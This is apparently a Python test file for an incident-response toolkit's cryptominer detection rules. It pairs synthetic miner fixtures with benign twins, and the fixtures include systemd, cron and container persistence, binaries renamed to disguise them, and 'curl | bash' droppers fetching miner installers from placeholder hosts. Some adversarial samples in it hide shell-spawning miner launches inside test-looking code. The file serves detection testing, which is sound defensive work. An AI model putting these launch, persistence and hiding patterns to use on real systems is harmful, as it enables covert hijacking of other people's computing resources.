"""The miner families of docs/hunting.md: each synthetic fixture fires at medium or above and
its benign twin stays at or below low; files that only mention miners stay at most low.

Every fixture is written here, by hand, in the shape public miner files take (units,
manifests, launchers, installers, configs); no public file is copied. Hosts are in
example.invalid and 198.51.100.0/24, wallets are well-formed strings of nobody's.
"""

from pathlib import Path

import pytest
from yarasamples import ETH, POOL, RVN, XMR, _b58, elf

from irkit.analysis.signals import command_starts_miner
from irkit.evidence.records import severity_rank
from irkit.hunt import compile_rules, scan_tree
from irkit.hunt.rules import default_rules_path
from irkit.hunt.windows import Extent, TargetResult, scan_extents
from irkit.knowledge.miners import MINER_PROGRAMS

PACK = compile_rules()
KASPA = "kaspa:q" + ("qpzry9x8gf2tvdw0s3jn54khce6mua7l" * 2)[:60]
ERGO = "9" + _b58(50, 11)
ZEPHYR = "ZEPHYR" + _b58(92, 13)
ZEPHYR_SUB = "ZEPHs" + _b58(94, 29)
QRL = "Q" + ("0123456789abcdef" * 5)[:78]
IRON = "ab" * 32
TRON = "T" + _b58(33, 17)
ETH_MIXED = "0x52908400098527886E0F7030069857D2E4169EE7"
BTC = "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"
LTC = "ltc1qg42tkwuuxefutzxezdkdel39gfstuap288mfea"
XMR_SUB = "8B" + _b58(93, 19)
XMR_INTEGRATED = "4B" + _b58(104, 23)

FAMILIES: dict[str, dict[str, str]] = {
    "1 started by name": {
        "xmrig.service": "[Unit]\nDescription=x\n[Service]\n"
        "ExecStart=/opt/xmrig/xmrig --config=/etc/xmrig/config.json\nRestart=always\n",
        "miner-b.service": "[Service]\nExecStart=/usr/local/bin/xmrig -B\n",
        "deployment.yaml": "apiVersion: apps/v1\nkind: Deployment\nspec:\n  template:\n"
        "    spec:\n      containers:\n      - name: app\n        image: someone/xmrig:6.21\n",
        "job.yaml": "kind: Job\nspec:\n  template:\n    spec:\n      containers:\n"
        '      - name: w\n        image: alpine\n        command: ["xmrig"]\n',
        "compose.yml": "services:\n  w:\n    image: someone/t-rex:0.26\n    restart: always\n",
        "Dockerfile": 'FROM ubuntu:22.04\nCOPY xmrig /usr/bin/\nENTRYPOINT ["/usr/bin/xmrig"]\n',
        "supervisor.conf": "[program:w]\ncommand=/opt/lolMiner/lolMiner\nautorestart=true\n",
        "openrc": '#!/sbin/openrc-run\ncommand="/opt/xmrig/xmrig"\ncommand_background=true\n',
        "rc.local": "#!/bin/sh\nnohup /root/.cache/xmrig >/dev/null 2>&1 &\nexit 0\n",
        ".profile": "PATH=$PATH:$HOME/bin\n/home/u/.local/xmrig --background &\n",
    },
    "2 values in variables": {
        "run.sh": f"#!/bin/bash\nPOOL={POOL}:3333\nWALLET={ETH}\nWORKER=rig1\n"
        './miner --pool "$POOL" --user "$WALLET.$WORKER"\n',
        "unit-echo.sh": '#!/bin/bash\necho -e "[Unit]\\nDescription=svc\\n[Service]\\n'
        'ExecStart=/usr/local/bin/xmrig\\n" > /etc/systemd/system/svc.service\n',
        "unit-tee.sh": "#!/bin/bash\ncat <<EOF | tee /etc/systemd/system/w.service\n[Service]\n"
        "ExecStart=/opt/bzminer/bzminer -c /opt/bzminer/config.txt\nEOF\n",
        # Wallet and pool set side by side, the command line elsewhere (or cut off).
        "settings.py": f'WALLET = "{ZEPHYR_SUB}"\nPOOL_H = "{POOL}"\nPOOL_P = 1123\n',
        "env.sh": f'WALLET="{QRL}"\nWORKER="w1"\nPOOL="{POOL}:1166"\nTHREADS="3"\n',
        # An exec-form argument list for a renamed binary.
        "Dockerfile": 'ENTRYPOINT ["./.system-check"]\n'
        f'CMD ["-o", "{POOL}:1123", "-u", "{ZEPHYR}.w1", "-p", "x"]\n',
    },
    "3 GPU dialects": {
        "trex.sh": f"./t-rex -a kawpow -o stratum+tcp://{POOL}:3333 -u RVN:{RVN}.rig -p x\n",
        "lolminer.sh": f"./lolMiner --algo ETHASH --pool {POOL}:2020 --user {ETH}.w "
        f"--dualmode TONDUAL --dualpool {POOL}:4002 --dualuser w\n",
        "bzminer.sh": f"./bzminer -a kaspa -w {KASPA} -p stratum+tcp://{POOL}:5555\n",
        "trm.sh": f"./teamredminer -a kawpow -o stratum+tcp://{POOL}:3333 -u {RVN}.rig\n",
        "gminer.sh": f"./miner --algo etchash --server {POOL} --port 1010 --user w.rig\n",
        "gminer2.sh": f"./gminer --algo kheavyhash --server {POOL} --port 5555 --user {KASPA}\n",
        "srb.sh": f"./SRBMiner-MULTI --algorithm yespower --pool stratum+tcps://{POOL}:443 "
        "--wallet w.rig\n",
        "config.ini": f"[Ethash]\nwallet = {ETH}\nrigName = rig1\npool1 = {POOL}:9999\n",
        "nbminer.sh": f"./nbminer -a etchash -o stratum+tcp://{POOL}:1010 -u {ETH}.w\n",
        "rigel.sh": f"./rigel -a kawpow -o stratum+tcp://{POOL}:3333 -u {RVN}.w\n",
        "ozm.sh": f"./onezerominer -a dynex -w d0000000000000000000000 -o {POOL}:19000\n",
        "unmineable.sh": f"./miner -o stratum+tcp://rx.unmineable.com:3333 -u TRX:{TRON}.w#ab-cd\n",
    },
    "4 wallets": {
        "xmr": f"./x -o {POOL}:3333 -u {XMR}\n",
        "xmr-sub": f"./x -o {POOL}:3333 -u {XMR_SUB}\n",
        "xmr-integrated": f"--user {XMR_INTEGRATED}\n",
        "eth": f"--wallet {ETH_MIXED}\n",
        "rvn": f"-u {RVN}\n",
        "kaspa": f"--wallet {KASPA}\n",
        "ergo": f"--user {ERGO}\n",
        "zephyr": f"-u {ZEPHYR}\n",
        "zephyr-sub": f"-u {ZEPHYR_SUB}\n",
        "qrl": f"--wallet {QRL}\n",
        "iron": f"-u {IRON}\n",
        "tron": f"--user {TRON}\n",
        "btc": f"--user {BTC}\n",
        "ltc": f"--user {LTC}\n",
    },
    "5 setup clones": {
        "setup.sh": f'sed -i \'s/"url": *"[^"]*",/"url": "{POOL}:443",/\' '
        "$HOME/c3pool/config.json\n"
        'sed -i \'s/"max-threads-hint": *[^,]*,/"max-threads-hint": 75,/\' '
        "$HOME/c3pool/config.json\n",
        "oneliner.sh": "curl -s -L http://198.51.100.7/setup_c3pool_miner.sh "
        f"| LC_ALL=en_US.UTF-8 bash -s {XMR}\n",
        "sudo.sh": "curl -fsSL http://198.51.100.7/setup_moneroocean_miner.sh | sudo -E bash -\n",
        "rename.sh": "cp /tmp/xmrig-6.21.0/xmrig /usr/bin/httpd\n",
    },
    "6 fetch or build": {
        "fetch.sh": "wget https://github.com/xmrig/xmrig/releases/download/v6.21.0/"
        "xmrig-6.21.0-linux-static-x64.tar.gz\ntar xf xmrig-6.21.0-linux-static-x64.tar.gz\n"
        "nohup ./xmrig-6.21.0/xmrig >/dev/null 2>&1 &\n",
        "build.sh": "git clone https://github.com/xmrig/xmrig.git\ncd xmrig && mkdir build && "
        "cd build && cmake .. && make -j$(nproc)\nsysctl -w vm.nr_hugepages=1280\n",
        "tune.sh": "modprobe msr\nsysctl -w vm.nr_hugepages=1280\nsystemctl start xmrig\n"
        "systemctl enable xmrig\nsetsid /usr/local/bin/xmrig &\n",
        "cron.sh": '(crontab -l; echo "@reboot /usr/local/bin/xmrig") | crontab -\n',
    },
}

BENIGN: dict[str, dict[str, str]] = {
    "1 started by name": {
        "nginx.service": "[Service]\nExecStart=/usr/sbin/nginx -g 'daemon off;'\n",
        "deployment.yaml": "kind: Deployment\nspec:\n  template:\n    spec:\n      containers:\n"
        '      - name: web\n        image: nginx:1.25\n        command: ["nginx"]\n',
        "Dockerfile": 'FROM python:3.12\nENTRYPOINT ["gunicorn", "app:app"]\n',
        "rc.local": "#!/bin/sh\nnohup /usr/local/bin/backup.sh &\nexit 0\n",
    },
    "2 values in variables": {
        "db.sh": "DB_POOL_HOST=db.example.invalid:5432\n"
        'psql --host "$DB_POOL_HOST" --user "$DB_USER" -c "select 1"\n',
        # A DeFi script: a wallet, but its "pool" is a contract or an http API.
        "defi.py": f'WALLET_ADDRESS = "{ETH}"\nPOOL_ADDRESS = "{ETH}"\n'
        'POOL_URL = "https://api.example.invalid/v3/pool"\n',
        "Dockerfile": 'CMD ["--server", "api.example.invalid:443", "--user", '
        '"system:serviceaccount:reporting:exporter-long-name"]\n',
    },
    "3 GPU dialects": {
        "train.sh": "python train.py --algo ppo --server localhost:8080 --user alice -a 3\n",
        "hashcat.sh": "hashcat -a 3 -w 3 -o found.txt hashes.txt\n",
    },
    "4 wallets": {
        "hashes.txt": f"{IRON}  file.tar\ncommit {'a' * 40}\n{XMR[:40]}\n",
    },
    "5 setup clones": {
        "nginx-setup.sh": 'sed -i \'s/"url": *"[^"]*"/"url": "x"/\' /etc/app/config.json\n'
        "curl -fsSL https://get.docker.com | sh\nmv /tmp/build/httpd /usr/sbin/httpd\n",
    },
    "6 fetch or build": {
        "build.sh": "git clone https://github.com/madler/zlib.git\ncd zlib && cmake . && make\n"
        "sysctl -w vm.nr_hugepages=512  # postgres shared buffers\n",
    },
}


def worst(root: Path) -> dict[str, str]:
    """Highest severity per file name under `root` ('none' when nothing fired)."""
    found = {p.name: "none" for p in root.iterdir()}
    for result in scan_tree(PACK.rules, [root]):
        for hit in result.hits:
            name = Path(result.target).name
            if severity_rank(hit.severity) > severity_rank(found[name]):
                found[name] = hit.severity
    return found


def write(root: Path, files: dict[str, str]) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        (root / name).write_text(content)
    return root


def at_most_low(severity: str) -> bool:
    return severity == "none" or severity_rank(severity) <= severity_rank("low")


@pytest.mark.parametrize("family", sorted(FAMILIES))
def test_family_fixture_fires_at_medium_or_above(family: str, tmp_path: Path) -> None:
    found = worst(write(tmp_path / "f", FAMILIES[family]))
    quiet = {name: sev for name, sev in found.items() if at_most_low(sev)}
    assert quiet == {}


@pytest.mark.parametrize("family", sorted(BENIGN))
def test_benign_twin_stays_at_or_below_low(family: str, tmp_path: Path) -> None:
    found = worst(write(tmp_path / "b", BENIGN[family]))
    loud = {name: sev for name, sev in found.items() if not at_most_low(sev)}
    assert loud == {}


def test_every_known_miner_name_fires_in_a_unit(tmp_path: Path) -> None:
    """The pack's launch rules and irkit/knowledge/miners.py name the same programs."""
    units = {
        f"{n}.service": f"[Service]\nExecStart=/opt/{n}/{n} --config=/etc/{n}.json\n"
        for n in MINER_PROGRAMS
    }
    found = worst(write(tmp_path / "u", units))
    assert {name for name, sev in found.items() if at_most_low(sev)} == set()
    assert all(command_starts_miner(f"/opt/{n}/{n}") for n in MINER_PROGRAMS)


def test_gpu_names_far_from_mining_context_stay_quiet(tmp_path: Path) -> None:
    """A big list of package names: a miner's name and algorithm words megabytes apart."""
    filler = "".join(f"package-{i}\n" for i in range(300_000))
    listing = "lolminer\nnbminer\nt-rex\n" + filler + "ethash\nkawpow\n--pool\n--user\n"
    found = worst(write(tmp_path / "p", {"names.txt": listing}))
    assert at_most_low(found["names.txt"])


def test_cpu_xmrig_with_cuda_loader_is_not_a_gpu_miner(tmp_path: Path) -> None:
    binary = elf(
        "XMRig/%s", "donate.v2.xmrig.com", "--donate-level", "libxmrig-cuda.so", "randomx",
        "cuda", '"loader"', "kawpow", "cn/r", "stratum+tcp://",
    )  # fmt: skip
    (tmp_path / "xmrig").write_bytes(binary)
    rules = {h.rule for r in scan_tree(PACK.rules, [tmp_path]) for h in r.hits}
    assert "IRKIT_Miner_XMRig_ELF" in rules
    assert not any(rule.startswith("IRKIT_Miner_GPU_") for rule in rules)


def test_kill_list_alone_is_not_high(tmp_path: Path) -> None:
    cleanup = "#!/bin/sh\npkill -f kinsing\npkill -f kdevtmpfsi\nrm -f /tmp/kinsing\n"
    found = worst(write(tmp_path / "k", {"cleanup.sh": cleanup}))
    assert at_most_low(found["cleanup.sh"])


RUST_TESTS = (
    "use detector::{score, Hook, Verdict};\n\n#[test]\nfn miner_postinstall_blocks() {\n"
    f'    let hook = Hook {{ command: "./xmrig --url=stratum+tcp://{POOL}:3333 -u {XMR}"'
    ".into() };\n"
    "    assert_eq!(score(&hook), Verdict::Block);\n}\n"
)
JS_TESTS = (
    "const { classify } = require('../src/classify');\n\n"
    "const DROPPER = 'curl -s http://example.invalid/xmrig | sh';\n"
    f"const MINER = './xmrig --url={POOL}:3333 --user={XMR} --donate-level=1';\n\n"
    "describe('classify', () => {\n  it('flags a miner launch', () => {\n"
    "    expect(classify(MINER)).toBe('miner');\n    expect(classify(DROPPER)).toBe('dropper');\n"
    "  });\n});\n"
)
POD = (
    "`apiVersion: v1\nkind: Pod\nmetadata:\n  name: compute-worker\nspec:\n  containers:\n"
    "    - name: miner\n      image: xmrig/xmrig:latest\n"
    f'      command: ["xmrig", "--url={POOL}:3333"]`'
)
# Each mention marker's adversarial twin: the same container with a way to run what it holds
# (a dropper that adds `#[test]`, `describe(` or a template literal to hide) still fires.
HIDING = {
    "hide.rs": RUST_TESTS + '\nfn main() {\n    std::process::Command::new("sh")\n'
    '        .args(["-c", "curl -s http://example.invalid/x | sh; '
    f'./xmrig -o {POOL}:3333 -u {XMR}"])\n'
    "        .spawn()\n        .unwrap();\n}\n",
    "hide.test.js": JS_TESTS + "require('child_process').exec(`${DROPPER} && ${MINER}`);\n",
    "deploy.ts": f"import {{ execSync }} from 'child_process';\nexport const POD = {POD};\n"
    "execSync('kubectl apply -f -', { input: POD });\n",
    "deploy_api.ts": f"export const POD = {POD};\n"
    "fetch('https://198.51.100.7:6443/api/v1/namespaces/default/pods', "
    "{ method: 'POST', body: POD });\n",
}

MENTIONS = {
    "miners.yar": "rule Miner_Launch {\n  strings:\n"
    f'    $a = "ExecStart=/opt/xmrig/xmrig --config=x"\n    $b = "-o {POOL}:3333 -u {XMR}"\n'
    "  condition:\n    any of them\n}\n",
    "sigma.yml": "title: Miner\nlogsource:\n  product: linux\n  category: process_creation\n"
    f"detection:\n  sel:\n    CommandLine|contains: 'xmrig -o {POOL}:3333 -u {XMR}'\n"
    "  condition: sel\n",
    "osquery.conf": '{"queries": {"miners": {"query": "SELECT * FROM processes WHERE '
    f"cmdline LIKE '%xmrig --pool {POOL}:3333 --user {ETH}%'"
    '", "interval": 60}}}\n',
    "falco.yaml": "- rule: Miner\n  desc: x\n  condition: spawned_process and proc.cmdline "
    f'contains "xmrig -o {POOL}:3333 -u {XMR}"\n  output: miner (%proc.cmdline)\n',
    "README.md": f"# Mining\n\nRun:\n\n```\n./xmrig -o {POOL}:3333 -u {XMR}\n```\n",
    # Prose with indented code (Markdown's other code block), in any language.
    "FAQ.md": "Najpierw zatrzymaj program, wykonaj następujące polecenia jako\n"
    f"użytkownik root:\n\n\tsudo sysctl -w vm.nr_hugepages=1168\n\t./xmrig -o {POOL}:3333 "
    f"-u {XMR}\n\nGdy to nie pomoże, zwiększ liczbę stron.\n",
    # An issue thread quoting the command as inline code after a sentence.
    "issue.md": "This command with the pool below is running nicely on my board:\n\n"
    f"`./xmrig -o {POOL}:3333 -u {XMR} -k`\n",
    # A copy cut after its opening fence, under a Markdown subheading.
    "notes.md": f"## Stale unit\n\n```\nExecStart=/root/xmrig -o {POOL}:3333 -u {XMR}\n",
    # Markdown without fences: bold list items, a table.
    "USAGE.md": f"## Sample usages\n\n- **pool one:** xmrig -o {POOL}:3333 -u {XMR}\n"
    f"- **pool two:** t-rex -a kawpow -o stratum+tcp://{POOL}:3333 -u RVN:{RVN}\n",
    "TABLE.md": f"| miner | command |\n|---|---|\n| xmrig | `xmrig -o {POOL}:3333 -u {XMR}` |\n",
    # A detector's test table: command lines as literals, each with its expected verdict.
    "detect_test.go": f'\t\t{{\n\t\t\t"pool",\n\t\t\t"./xmrig -o {POOL}:3333 -u {XMR}",\n'
    '\t\t\ttrue,\n\t\t},\n\t\t{\n\t\t\t"gpu",\n\t\t\t"./t-rex -a kawpow -o '
    f'stratum+tcp://{POOL}:3333 -u RVN:{RVN}",\n\t\t\ttrue,\n\t\t}},\n',
    "test_detect.py": f'CASES = [\n    ("./xmrig -o {POOL}:3333 -u {XMR}", True),\n'
    '    ("ls -la", False),\n]\n',
    # A detector's Rust tests: the command is a struct field, the test asserts a verdict.
    "attacks.rs": RUST_TESTS,
    # A detector's JavaScript tests: the command and a `curl | sh` are constants.
    "detect.test.js": JS_TESTS,
    # A scanner's demo data: a Pod quoted in a TypeScript template literal.
    "scenarios.ts": "export const SCENARIOS = [\n  {\n    id: 'mining',\n"
    f"    content: {POD},\n  }},\n];\n",
}


def test_files_that_only_mention_miners_stay_at_most_low(tmp_path: Path) -> None:
    found = worst(write(tmp_path / "m", MENTIONS))
    assert {name: sev for name, sev in found.items() if not at_most_low(sev)} == {}


LAUNCHERS = {
    "run.sh": f"./xmrig -o {POOL}:3333 -u {XMR}\n",
    # Indented after a blank line, as in a function or a branch: code, not documentation.
    "start.sh": "#!/bin/sh\n# Start the worker when the host is idle:\nstart() {\n\n"
    f"    ./xmrig -o {POOL}:3333 -u {XMR}\n}}\nstart\n",
    "branch.sh": "#!/bin/sh\nif [ -x /tmp/.x/xmrig ]; then\n\n"
    f"\t/tmp/.x/xmrig -o {POOL}:3333 -u {XMR} &\nfi\n",
    # Shell comments look like subheadings; without a fence this is a launcher.
    "sections.sh": f"#!/bin/sh\n## Start the worker\n./xmrig -o {POOL}:3333 -u {XMR}\n### done\n",
    # One verdict-looking literal is not a table.
    "args.go": f'var a = []string{{"./xmrig -o {POOL}:3333 -u {XMR}", true}},\n',
    # Calls with a string and True are not test cases.
    "launch.py": "import os, subprocess\n"
    'debug = os.environ.get("DEBUG", True)\nquiet = opts.get("quiet", True)\n'
    f'subprocess.Popen("./xmrig -o {POOL}:3333 -u {XMR}", shell=True)\n',
}


@pytest.mark.parametrize("name", sorted(LAUNCHERS))
def test_the_same_text_outside_a_mention_container_fires(name: str, tmp_path: Path) -> None:
    found = worst(write(tmp_path / "r", {name: LAUNCHERS[name]}))
    assert found[name] in ("high", "critical")


@pytest.mark.parametrize("name", sorted(HIDING))
def test_a_mention_marker_does_not_excuse_a_file_that_runs_it(name: str, tmp_path: Path) -> None:
    found = worst(write(tmp_path / "h", {name: HIDING[name]}))
    assert not at_most_low(found[name])


def test_a_copy_of_irkits_own_pack_is_never_a_finding(tmp_path: Path) -> None:
    copy = tmp_path / "opt" / "venv2" / "irkit" / "data" / "yara"
    copy.mkdir(parents=True)
    for source in sorted(default_rules_path().glob("*.yar")):
        (copy / source.name).write_bytes(source.read_bytes())
    hits = [(r.target, h.rule) for r in scan_tree(PACK.rules, [tmp_path]) for h in r.hits]
    assert hits == []


def test_mentions_cap_whole_documents_only() -> None:
    """A bundle member is one document: capped. An image window is not: a rule file lying
    next to a miner's launch line must not hide it; only the marker is dropped."""
    data = MENTIONS["miners.yar"].encode()

    def read_at(offset: int, size: int) -> bytes:
        return data[offset : offset + size]

    def scanned(kind: str) -> dict[str, str]:
        result = scan_extents(PACK.rules, [Extent(0, len(data))], read_at, TargetResult("t", kind))
        return {hit.rule: hit.severity for hit in result.hits}

    member = scanned("bundle-member")
    image = scanned("image")
    assert member and all(at_most_low(sev) for sev in member.values())
    assert any(not at_most_low(sev) for sev in image.values())
    assert not any(rule.startswith("IRKIT_Mention_") for rule in {**member, **image})
